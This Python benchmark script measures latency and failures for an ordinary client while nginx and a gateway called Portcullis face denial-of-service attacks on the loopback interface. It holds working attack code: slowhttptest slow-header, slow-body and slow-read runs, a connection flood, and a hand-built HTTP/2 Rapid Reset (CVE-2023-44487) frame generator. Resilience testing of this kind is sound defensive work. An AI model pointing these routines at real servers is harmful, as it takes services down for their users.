#!/usr/bin/env python3
"""An ordinary client while a server is attacked: nginx with its defaults and Portcullis with its own, in turn.

slowhttptest plays slow heads, slow bodies and slow reading; floods of connections and of HTTP/2 streams that
are reset at once come from here. Everything stays on the loopback and ends by itself.
"""

import argparse
import http.client
import json
import os
import pathlib
import shutil
import socket
import ssl
import statistics
import subprocess
import tempfile
import threading
import time

from servers import LOAD_CORE, World

HERE = pathlib.Path(__file__).resolve().parent


def slowhttptest(*flags):
    def attack(server, seconds):
        url = f"http://127.0.0.1:{server.ports['plain']}/page.html"
        command = ["taskset", "-c", LOAD_CORE, "slowhttptest", *flags, "-c", "800", "-r", "400", "-i", "1",
                   "-l", str(seconds), "-u", url]
        subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=seconds + 30)
    return attack


def connections(server, seconds):
    """Connections from many addresses that say nothing."""
    held, end, number = [], time.monotonic() + seconds, 0
    while time.monotonic() < end:
        number += 1
        try:
            one = socket.socket()
            one.bind((f"127.0.1.{number % 200 + 1}", 0))
            one.settimeout(0.2)
            one.connect(("127.0.0.1", server.ports["plain"]))
            held.append(one)
        except OSError:
            one.close()
        if len(held) > 8000:
            held.pop(0).close()
    for one in held:
        one.close()


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def rapid_reset(server, seconds):
    """HTTP/2 streams opened and reset at once, on one connection after another (CVE-2023-44487)."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    head = b"".join(bytes([0, len(name)]) + name + bytes([len(value)]) + value for name, value in [
        (b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/page.html")])
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            raw = socket.create_connection(("127.0.0.1", server.ports["tls"]), 2)
            one = context.wrap_socket(raw, server_hostname="localhost")
            one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            one.settimeout(0)
            stream = 1
            while time.monotonic() < end and stream < 1 << 20:
                batch = b""
                for _ in range(50):
                    batch += frame(1, 5, stream, head) + frame(3, 0, stream, (8).to_bytes(4, "big"))
                    stream += 2
                one.settimeout(1)
                one.sendall(batch)
                one.settimeout(0)
                try:
                    while one.recv(65536):
                        pass
                    break
                except (ssl.SSLWantReadError, BlockingIOError):
                    pass
        except OSError:
            pass
        finally:
            raw.close()


ATTACKS = {
    "slow heads": slowhttptest("-H"),
    "slow bodies": slowhttptest("-B", "-s", "100000"),
    "slow reading": slowhttptest("-X", "-w", "10", "-y", "20", "-z", "5", "-k", "3"),
    "flood of connections": connections,
    "rapid reset": rapid_reset,
}


def ordinary(server, until):
    """One request after another, each on a connection of its own."""
    took, failed = [], 0
    while not until.is_set():
        began = time.monotonic()
        try:
            client = http.client.HTTPConnection("127.0.0.1", server.ports["plain"], timeout=5,
                                                source_address=("127.0.9.9", 0))
            client.request("GET", "/1k.txt")
            answer = client.getresponse()
            body = answer.read()
            if answer.status == 200 and len(body) == 1024:
                took.append(time.monotonic() - began)
            else:
                failed += 1
        except (OSError, http.client.HTTPException):
            failed += 1
        finally:
            client.close()
        time.sleep(0.01)
    return took, failed


def main():
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--gateway", default=str(HERE.parents[1] / "target/release/portcullis"))
    options.add_argument("--seconds", type=int, default=12)
    options.add_argument("--out", default=str(HERE / "results"))
    given = options.parse_args()
    folder, rows = tempfile.mkdtemp(prefix="portcullis-bench-"), []
    try:
        world = World(folder, given.gateway)
        world.listen = ""
        backend = world.backend()
        try:
            for name, attack in ATTACKS.items():
                for peer in ("nginx", "portcullis"):
                    server = getattr(world, peer)()
                    try:
                        over, found = threading.Event(), []
                        client = threading.Thread(target=lambda: found.extend(ordinary(server, over)))
                        cpu = server.cpu()
                        client.start()
                        attack(server, given.seconds)
                        over.set()
                        client.join()
                        took, failed = found
                        took.sort()
                        row = {"attack": name, "peer": peer, "answered": len(took), "failed": failed,
                               "p50_ms": statistics.median(took) * 1e3 if took else None,
                               "p99_ms": took[int(len(took) * 0.99)] * 1e3 if took else None,
                               "cpu_s": server.cpu() - cpu, "rss_mb": server.rss() / 1e6}
                        rows.append(row)
                        print(", ".join(f"{key} {value:.4g}" if isinstance(value, float) else f"{key} {value}"
                                        for key, value in row.items()), flush=True)
                    finally:
                        server.stop()
        finally:
            backend.stop()
    finally:
        shutil.rmtree(folder)
    out = pathlib.Path(given.out)
    out.mkdir(parents=True, exist_ok=True)
    (out / "attack.json").write_text(json.dumps(rows, indent=1))
    broken = [row for row in rows if row["peer"] == "portcullis" and (row["failed"] or not row["answered"])]
    if broken:
        raise SystemExit(f"bench: an ordinary client did not get all its answers: {broken}")


if __name__ == "__main__":
    os.environ.setdefault("LC_ALL", "C")
    main()
